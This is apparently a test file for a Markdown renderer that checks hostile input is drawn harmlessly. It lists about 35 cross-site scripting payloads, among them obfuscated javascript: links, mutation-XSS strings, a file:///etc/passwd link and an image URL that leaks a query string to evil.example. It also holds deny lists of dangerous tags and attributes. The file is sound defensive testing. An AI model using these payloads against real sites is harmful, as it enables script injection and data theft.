// @vitest-environment happy-dom
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { show } from '../testing/show.tsx'
import { allowedImage, allowedLink } from './allowed-url.ts'
import { MarkdownRenderer } from './markdown-renderer.tsx'

const PROTOCOLS = new Set(['http:', 'https:', 'mailto:'])

/** What a page may never hold, whatever was written: things that run, fetch, submit or cover it. */
const FORBIDDEN =
  'script, style, iframe, object, embed, form, link, meta, base, img, video, audio, source, textarea, select, template, dialog'

function dangers(page: HTMLElement): string[] {
  const found = [...page.querySelectorAll(FORBIDDEN)].map(({ tagName }) => tagName)
  for (const element of page.querySelectorAll('*')) {
    for (const name of element.getAttributeNames()) {
      if (/^on|^srcdoc$|^formaction$|^xlink:/i.test(name)) found.push(name)
    }
    const href = element.getAttribute('href')
    if (href !== null && !href.startsWith('#') && !PROTOCOLS.has(URL.parse(href)?.protocol ?? ''))
      found.push(href)
  }
  return found
}

function drawn(text: string, streaming = false) {
  using page = show(<MarkdownRenderer text={text} streaming={streaming} />)
  return { dangers: dangers(page.container), text: page.container.textContent }
}

const HOSTILE: [what: string, markdown: string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in capitals', '<ScRiPt src=//evil.example></sCrIpT>'],
  ['a handler', '<img src=x onerror=alert(1)>'],
  ['a handler on svg', '<svg/onload=alert(1)><animate onbegin=alert(1)>'],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['a form', '<form action=https://evil.example><input name=key><button>Go</button></form>'],
  ['a style', '<style>body{display:none}</style><div style="position:fixed;inset:0">'],
  ['a base', '<base href=https://evil.example>'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'],
  ['a mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['a math namespace', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['HTML between lines', 'a <b\nonmouseover=alert(1)>b</b>'],
  ['HTML in a table', '| a |\n|---|\n| <img src=x onerror=alert(1)> |'],
  ['HTML in a heading', '# <a href="javascript:alert(1)">x</a>'],
  ['a comment', '<!-- --><script>alert(1)</script> <!-- -->'],
  ['a link to script', '[x](javascript:alert(1))'],
  ['a link to script with a tab', '[x](java&Tab;script:alert(1))'],
  ['a link to script with a line', '[x](java\nscript:alert(1))'],
  ['a link to script by entity', '[x](&#106;avascript:alert(1))'],
  ['a link to script by percent', '[x](%6Aavascript:alert(1))'],
  ['a link to script behind a control', '[x](<\u0001javascript:alert(1)>)'],
  ['a link to script by reference', '[x][a]\n\n[a]: JaVaScRiPt:alert(1)'],
  ['a link to script in angles', '<javascript:alert(1)>'],
  ['a link to data', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
  ['a link to a blob', '[x](blob:https://evil.example/1)'],
  ['a link to a file', '[x](file:///etc/passwd)'],
  ['a link without a protocol', '[x](//evil.example)'],
  ['a link with a title that breaks out', '[x](https://e.org "\\" onmouseover=\\"alert(1)")'],
  ['an image that leaks a query', '![x](https://evil.example/?q=secret)'],
  ['an image by reference', '![x][a]\n\n[a]: https://evil.example/?q=secret'],
  ['an image of data', '![x](data:image/svg+xml;base64,PHN2Zy8+)'],
  ['a link around an image', '[![x](https://evil.example/a.png)](javascript:alert(1))'],
  ['a footnote', 'x[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>'],
  ['a fence with a name', '```"><img src=x onerror=alert(1)>\ncode\n```'],
  ['a task that is HTML', '- [x] <input onfocus=alert(1) autofocus>'],
]

test.each(HOSTILE)('SX-3 %s stays harmless, finished or growing', (_, markdown) => {
  expect(drawn(markdown).dangers).toEqual([])
  for (const share of [0.3, 0.6, 0.9]) {
    expect(drawn(markdown.slice(0, Math.ceil(markdown.length * share)), true).dangers).toEqual([])
  }
})

test('SX-3 whatever fragments meet, nothing that runs, fetches or leads elsewhere is drawn', () => {
  const fragment = fc.oneof(
    fc.constantFrom(...HOSTILE.map(([, markdown]) => markdown)),
    fc.constantFrom(
      '\n\n',
      '`',
      '```\n',
      '*',
      '[',
      '](',
      ')',
      '<',
      '>',
      '"',
      '&lt;',
      '| a |\n|---|\n|',
      '> ',
      '- ',
      '\\',
    ),
    fc.constantFrom(
      'javascript:',
      'onerror=',
      'src=',
      'href=',
      '<a ',
      '<img ',
      '![',
      'https://evil.example/',
    ),
  )
  fc.assert(
    fc.property(fc.array(fragment, { maxLength: 8 }), fc.boolean(), (fragments, streaming) => {
      expect(drawn(fragments.join(''), streaming).dangers).toEqual([])
    }),
    { numRuns: 60 },
  )
})

test('SX-3 HTML keeps every character that was written', () => {
  const tag = '<div class="a">kept & shown</div>'
  expect(drawn(`Before ${tag} after`).text).toBe(`Before ${tag} after`)
})

test('SX-3 an address is followed only when it is whole and of an allowed kind', () => {
  const scheme = fc.constantFrom(
    'javascript',
    'data',
    'vbscript',
    'file',
    'blob',
    'ftp',
    'about',
    'ws',
    'tel',
    '',
  )
  fc.assert(
    fc.property(scheme, fc.string(), (name, rest) => {
      expect(allowedLink(name === '' ? `/${rest}` : `${name}:${rest}`)).toBeNull()
      expect(allowedImage(`${name}:${rest}`)).toBeNull()
    }),
  )
  expect(allowedLink('HTTPS://Example.org')?.href).toBe('https://example.org/')
  expect(allowedLink('mailto:a@example.org')?.protocol).toBe('mailto:')
  expect(allowedImage('mailto:a@example.org')).toBeNull()
  expect(allowedLink(undefined)).toBeNull()
})

test('SX-3 a single dollar is money and no formula', () => {
  expect(drawn('It costs $5 and then $6.').text).toBe('It costs $5 and then $6.')
})
